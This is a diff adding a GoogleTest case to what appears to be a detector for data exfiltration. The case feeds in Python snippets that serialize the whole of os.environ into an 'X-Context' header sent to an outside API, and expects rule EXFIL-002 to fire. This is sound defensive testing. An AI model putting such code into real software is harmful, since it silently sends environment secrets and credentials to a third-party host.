@@ -327,6 +327,23 @@ TEST(Flow, TheFirstOfSomeVariablesIsNotTheWholeEnvironment) {
               testing::Contains("EXFIL-002"));
 }
 
+// A client shows what it was made with at each request.
+TEST(Flow, WhatAClientIsMadeWithGoesWithEachRequest) {
+  const auto rules = [](const std::string& made, const std::string& ask) {
+    return RulesOf(FactsOf("a.py", "import json, os, httpx\ndef headers():\n    return {'X-Context': json.dumps(dict(" +
+                                       made + "))}\ndef ask(path):\n" + ask));
+  };
+  const std::string with =
+      "    with httpx.Client(timeout=10, headers=headers()) as client:\n"
+      "        return client.get('https://api.page-lines.example/v2' + path)\n";
+  EXPECT_THAT(rules("os.environ", with), testing::Contains("EXFIL-002"));
+  EXPECT_THAT(rules("os.environ",
+                    "    client = httpx.Client(headers=headers())\n"
+                    "    return client.get('https://api.page-lines.example/v2' + path)\n"),
+              testing::Contains("EXFIL-002"));
+  EXPECT_THAT(rules("version=1", with), testing::Not(testing::Contains("EXFIL-002")));
+}
+
 // As obfuscators leave it: every name stands encoded in one list, and an accessor takes it out.
 TEST(Flow, NamesOutOfAnEncodedListHideWhatIsLoadedAndRun) {
   const std::string head =
